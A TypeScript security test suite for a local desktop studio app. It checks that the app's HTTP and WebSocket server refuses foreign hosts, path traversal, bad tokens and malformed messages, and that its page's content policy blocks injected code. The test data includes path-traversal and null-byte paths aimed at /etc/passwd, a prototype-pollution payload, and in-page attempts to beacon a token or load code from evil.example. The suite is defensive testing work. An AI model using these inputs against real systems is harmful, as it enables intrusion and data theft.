import { once } from 'node:events';
import { request as httpRequest, type IncomingHttpHeaders, type RequestOptions } from 'node:http';
import { connect } from 'node:net';
import { decode, encode } from '@msgpack/msgpack';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { WebSocket, type ClientOptions } from 'ws';
import type { AnswerMessage, EventMessage } from '../../desktop-app/src/common/envelope.js';
import { MAX_MESSAGE_BYTES } from '../../desktop-app/src/common/limits.js';
import { openTestStudio, type TestStudio } from '../support/studio.js';
import { missingTools, titled } from '../support/tools.js';

let opened: TestStudio;
let port: number;
let token: string;

beforeAll(async () => {
  opened = await openTestStudio();
  port = opened.studio.port;
  token = new URL(opened.studio.url).hash.slice(1);
});
afterAll(() => opened.close());

interface Answer {
  readonly status: number;
  readonly headers: IncomingHttpHeaders;
  readonly text: string;
}

/** Sends a request as it is: nothing tidies its path. */
const ask = (path: string, options: RequestOptions = {}): Promise<Answer> =>
  new Promise((resolve, reject) => {
    const sent = httpRequest({ host: '127.0.0.1', port, path, ...options }, (response) => {
      const parts: Buffer[] = [];
      response.on('data', (part: Buffer) => parts.push(part));
      response.on('end', () =>
        resolve({
          status: response.statusCode ?? 0,
          headers: response.headers,
          text: Buffer.concat(parts).toString(),
        }),
      );
    });
    sent.on('error', reject);
    sent.end();
  });

/** Opens a connection as our page does, or otherwise where `options` say so. Rejects with the reason of the refusal. */
async function socketOf(words = ['adiabit', token], options: ClientOptions = {}): Promise<WebSocket> {
  const socket = new WebSocket(`ws://127.0.0.1:${port}/`, words, { origin: `http://127.0.0.1:${port}`, ...options });
  await once(socket, 'open');
  return socket;
}

async function callOver(socket: WebSocket, method: unknown, params: unknown): Promise<AnswerMessage['outcome']> {
  const id = Math.floor(Math.random() * 1e9);
  const answered = new Promise<AnswerMessage>((resolve) => {
    socket.on('message', (data: Buffer) => {
      const message = decode(data) as AnswerMessage | EventMessage;
      if (message.kind === 'answer' && message.id === id) resolve(message);
    });
  });
  socket.send(encode({ kind: 'call', id, method, params }));
  return (await answered).outcome;
}

/** Sends one message and returns the code that the studio hangs up with. */
async function hangsUpOn(message: string | Uint8Array): Promise<number> {
  const socket = await socketOf();
  socket.on('error', () => undefined);
  socket.send(message, () => undefined);
  const [code] = (await once(socket, 'close')) as [number];
  return code;
}

/** Still works: whatever was sent to it before. */
async function expectAlive(): Promise<void> {
  const socket = await socketOf();
  expect(await callOver(socket, 'appInfo', {})).toMatchObject({ ok: true, value: { face: 'studio' } });
  socket.terminate();
}

describe('the files of the studio', () => {
  it('are given to this computer alone: a name of another site that points here is refused', async () => {
    for (const host of ['evil.example', `evil.example:${port}`, '127.0.0.1.evil.example', 'localhost.', '@127.0.0.1']) {
      expect(await ask('/', { headers: { host } }), host).toMatchObject({ status: 403 });
    }
    for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `[::1]:${port}`, 'localhost:9999', 'LOCALHOST']) {
      expect(await ask('/', { headers: { host } }), host).toMatchObject({ status: 200 });
    }
  });

  it.each([
    '/../package.json',
    '/..%2fpackage.json',
    '/%2e%2e/%2e%2e/package.json',
    '/assets/..%2f..%2f..%2fpackage.json',
    '/..\\..\\package.json',
    '/..%5c..%5cpackage.json',
    '/%00',
    '/index.html%00.png',
    '/%c0%ae%c0%ae/package.json',
    '/%',
    '//etc/passwd',
    '/etc/passwd',
    '/.vite/manifest.json',
    '/assets/',
    '/constructor',
    '/__proto__.html',
    `/${'a'.repeat(10_000)}.html`,
    'http://127.0.0.1/../../package.json',
    'file:///etc/passwd',
  ])('end at the folder of the page: %s is not there', async (path) => {
    const { status, text } = await ask(path);
    expect(status).toBe(404);
    expect(text).toBe('The studio has no such page.\n');
  });

  it.each(['POST', 'PUT', 'DELETE', 'OPTIONS', 'PATCH', 'PROPFIND', 'TRACE'])('take no %s', async (method) => {
    expect((await ask('/', { method })).status).toBe(405);
  });

  it('have a head that is asked for alone', async () => {
    const [whole, head] = [await ask('/'), await ask('/', { method: 'HEAD' })];
    expect(head).toMatchObject({ status: 200, text: '' });
    expect(head.headers['content-length']).toBe(String(whole.text.length));
  });

  it('come with the policy on every answer, refusals too', async () => {
    const script = /src="\.(\/assets\/[^"]+\.js)"/.exec((await ask('/')).text)?.[1] ?? 'none';
    const icon = /href="\.(\/[^"]+\.svg)"/.exec((await ask('/')).text)?.[1] ?? 'none';
    const answers = [
      await ask('/'),
      await ask(script),
      await ask(icon),
      await ask('/nothing'),
      await ask('/', { method: 'POST' }),
      await ask('/', { headers: { host: 'evil.example' } }),
    ];
    expect(answers.map(({ status }) => status)).toEqual([200, 200, 200, 404, 405, 403]);
    for (const { headers } of answers) {
      const policy = headers['content-security-policy'];
      for (const rule of ["default-src 'none'", "script-src 'self'", "connect-src 'self'", "frame-ancestors 'none'"]) {
        expect(policy).toContain(rule);
      }
      expect(policy).not.toMatch(/unsafe|\*|https?:/);
      expect(headers).toMatchObject({
        'x-content-type-options': 'nosniff',
        'referrer-policy': 'no-referrer',
        'cross-origin-opener-policy': 'same-origin',
        'cross-origin-resource-policy': 'same-origin',
      });
      expect(headers).not.toHaveProperty('access-control-allow-origin');
    }
  });

  it('hold no secret', async () => {
    expect((await ask('/')).text).not.toContain(token);
  });
});

describe('the connection of the studio', () => {
  const other = Buffer.alloc(32).toString('base64url');

  it.each<[string, () => readonly [string[], ClientOptions]]>([
    ['without a token', () => [['adiabit'], {}]],
    ['with a wrong token', () => [['adiabit', other], {}]],
    ['with a part of the token', () => [['adiabit', token.slice(1)], {}]],
    ['with the token in the place of the name', () => [[token, 'adiabit'], {}]],
    ['with another name', () => [['other', token], {}]],
  ])('is refused %s', async (_, given) => {
    await expect(socketOf(...given())).rejects.toThrow('401');
  });

  it.each<[string, () => ClientOptions]>([
    ['from the page of another site', () => ({ origin: 'https://evil.example' })],
    ['from another port of this computer', () => ({ origin: `http://127.0.0.1:${port + 1}` })],
    ['from a page with no origin', () => ({ origin: 'null' })],
    ['by another scheme', () => ({ origin: `https://127.0.0.1:${port}` })],
    [
      'from a name of another site that points here',
      () => ({ origin: `http://evil.example:${port}`, headers: { host: `evil.example:${port}` } }),
    ],
  ])('is refused %s, even with the token', async (_, options) => {
    await expect(socketOf(['adiabit', token], options())).rejects.toThrow('403');
  });

  it('is refused where the origin is missing, even with the token', async () => {
    const socket = new WebSocket(`ws://127.0.0.1:${port}/`, ['adiabit', token]);
    await expect(once(socket, 'open')).rejects.toThrow('403');
  });

  it('hangs up on a message that is too large, a text, and what is no call', async () => {
    expect(await hangsUpOn(new Uint8Array(MAX_MESSAGE_BYTES + 1))).toBe(1009);
    expect(await hangsUpOn('{"kind":"call","id":1,"method":"appInfo","params":{}}')).toBe(1008);
    expect(await hangsUpOn(new Uint8Array([0xc1]))).toBe(1008);
    expect(await hangsUpOn(encode({ method: 'appInfo', params: {} }))).toBe(1008);
    expect(await hangsUpOn(encode([1, 2, 3]))).toBe(1008);
    // A list that says it has four thousand million entries, and a thousand lists in each other.
    expect(await hangsUpOn(new Uint8Array([0xdd, 0xff, 0xff, 0xff, 0xff]))).toBe(1008);
    expect(await hangsUpOn(new Uint8Array(100_000).fill(0x91))).toBe(1008);
    const manyLists = Uint8Array.from({ length: 5000 }, (_, index) => [0xdd, 0x01, 0xc9, 0xc3, 0x80][index % 5]);
    expect(await hangsUpOn(manyLists)).toBe(1008);
    // The key "__proto__" with an object as its value.
    expect(await hangsUpOn(Buffer.from('82a95f5f70726f746f5f5f80a2696401', 'hex'))).toBe(1008);
    await expectAlive();
  });

  it('answers unknown methods, names of every object, and wrong values with an error, and goes on', async () => {
    const socket = await socketOf();
    for (const method of [
      'nothing',
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      '',
      7,
      null,
      {},
      ['appInfo'],
    ]) {
      expect(await callOver(socket, method, {}), JSON.stringify(method)).toMatchObject({
        ok: false,
        error: { code: 'app.bad-request' },
      });
    }
    const wrong: readonly (readonly [string, unknown])[] = [
      ['appInfo', { more: 1 }],
      ['appInfo', null],
      ['appInfo', []],
      ['connectDevice', {}],
      ['connectDevice', { device: 7 }],
      ['connectDevice', { device: 'a'.repeat(301) }],
      ['flash', { devices: [], bitstream: '' }],
      ['flash', { devices: Array.from({ length: 257 }, () => 'a'), bitstream: '' }],
      ['addPort', { path: '/etc/passwd' }],
      ['addPort', { path: '/dev/../etc/passwd' }],
      ['addPort', { path: '/dev/ttyACM0\n' }],
      ['addToLibrary', { fileName: 'a', bytes: [1, 2, 3] }],
      ['addToLibrary', { fileName: '', bytes: new Uint8Array(1) }],
    ];
    for (const [method, params] of wrong) {
      expect(await callOver(socket, method, params), `${method} ${JSON.stringify(params)}`).toMatchObject({
        ok: false,
        error: { code: 'app.bad-request' },
      });
    }
    for (const entry of ['../../../etc/passwd', 'a', '']) {
      expect(await callOver(socket, 'removeFromLibrary', { entry })).toMatchObject({
        ok: false,
        error: { code: 'app.not-found' },
      });
    }
    expect(await callOver(socket, 'appInfo', {})).toMatchObject({ ok: true });
    socket.terminate();
  });

  it('outlives those who hang up on a refusal', async () => {
    for (let count = 0; count < 20; count++) {
      const stranger = connect(port, '127.0.0.1');
      await once(stranger, 'connect');
      stranger.write(`GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`);
      stranger.resetAndDestroy();
    }
    await expectAlive();
  });

  it('serves 200 pages at once', async () => {
    const sockets = await Promise.all(Array.from({ length: 200 }, () => socketOf()));
    const outcomes = await Promise.all(sockets.map((socket) => callOver(socket, 'listDevices', {})));
    expect(outcomes.filter(({ ok }) => ok)).toHaveLength(200);
    for (const socket of sockets) socket.terminate();
    await expectAlive();
  });

  it('serves pages while 200 strangers hold connections and say nothing', async () => {
    const strangers = await Promise.all(
      Array.from({ length: 200 }, async () => {
        const stranger = connect(port, '127.0.0.1');
        await once(stranger, 'connect');
        stranger.on('error', () => undefined);
        stranger.write('GET / HTTP/1.1\r\n');
        return stranger;
      }),
    );
    await expectAlive();
    for (const stranger of strangers) stranger.destroy();
  });
});

const missing = missingTools('chromium');

describe.skipIf(missing.length > 0)(titled('the page of the studio in Chromium', missing), () => {
  let page: Page;
  /** The policy's rules that the page broke, as Chromium tells them. */
  const broken = (): Promise<readonly string[]> => page.evaluate('window.broken');

  beforeAll(async () => {
    page = await opened.openPage();
    await page.getByRole('log').waitFor();
    await page.evaluate(
      `window.broken = []; addEventListener('securitypolicyviolation', (event) => broken.push(event.effectiveDirective));`,
    );
  });

  it('has taken the token out of its address and its history', async () => {
    expect(page.url()).toBe(`http://127.0.0.1:${port}/`);
    expect(await page.evaluate('history.length')).toBeLessThanOrEqual(2);
    expect(await page.evaluate('document.cookie + JSON.stringify({ ...localStorage })')).toBe('{}');
  });

  /** What a page would do that was led astray, and the rule of the policy that stops it first. */
  it.each([
    ['a script in the page', 'require-trusted-types-for', `add('script', {}, 'window.got = 1');`],
    ['a script of another place', 'require-trusted-types-for', `add('script', { src: 'https://evil.example/a.js' });`],
    [
      'a handler in an attribute',
      'require-trusted-types-for',
      `document.body.setAttribute('onclick', 'window.got = 1');`,
    ],
    ['HTML from a string', 'require-trusted-types-for', `document.body.innerHTML = '<b></b>';`],
    ['trusting texts after all', 'trusted-types', `trustedTypes.createPolicy('mine', {});`],
    ['a style in the page', 'style-src-elem', `add('style', {}, '* { color: red }');`],
    ['a style in an attribute', 'style-src-attr', `document.body.setAttribute('style', 'color: red');`],
    [
      'a style of another place',
      'style-src-elem',
      `add('link', { rel: 'stylesheet', href: 'https://evil.example/a.css' });`,
    ],
    ['a connection elsewhere', 'connect-src', `void fetch('http://127.0.0.1:1/').catch(() => undefined);`],
    ['a WebSocket elsewhere', 'connect-src', `new WebSocket('ws://127.0.0.1:1/');`],
    ['a beacon', 'connect-src', `navigator.sendBeacon('https://evil.example/', 'token');`],
    ['a picture of another place', 'img-src', `new Image().src = 'https://evil.example/a.png';`],
    ['a frame', 'frame-src', `add('iframe', { src: 'https://evil.example/' });`],
    ['an object', 'require-trusted-types-for', `add('object', { data: 'https://evil.example/a' });`],
    ['a worker', 'require-trusted-types-for', `new Worker('data:text/javascript,0');`],
    ['another base', 'base-uri', `add('base', { href: 'https://evil.example/' });`],
    ['a form', 'form-action', `add('form', { action: 'https://evil.example/' }).submit();`],
  ])('is kept from %s', async (_, directive, attempt) => {
    await page.evaluate(`(() => {
      const add = (name, fields, text = '') => {
        const element = Object.assign(document.createElement(name), fields);
        element.append(text);
        document.body.append(element);
        return element;
      };
      broken.length = 0;
      try { ${attempt} } catch {}
    })()`);
    await expect.poll(broken).toContain(directive);
    expect(await page.evaluate('window.got')).toBeUndefined();
  });

  it('is kept from making code of text', async () => {
    const outcome = await page.evaluate(
      `new Promise((resolve) => { addEventListener('message', () => { try { resolve((0, eval)('1 + 1')); } catch (error) { resolve(error.name); } }, { once: true }); postMessage(0); })`,
    );
    expect(outcome).toBe('EvalError');
  });

  it('cannot be put into the page of another site', async () => {
    const framed = await page.context().browser()!.newPage();
    await framed.route('http://evil.example/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="http://127.0.0.1:${port}/"></iframe>` }),
    );
    await framed.goto('http://evil.example/');
    // What stands in the frame is Chromium's own page, which says that the studio refused.
    await expect.poll(() => framed.frames()[1].url()).toBe('chrome-error://chromewebdata/');
    expect(await framed.frames()[1].locator('#app').count()).toBe(0);
    await framed.close();
  });
});
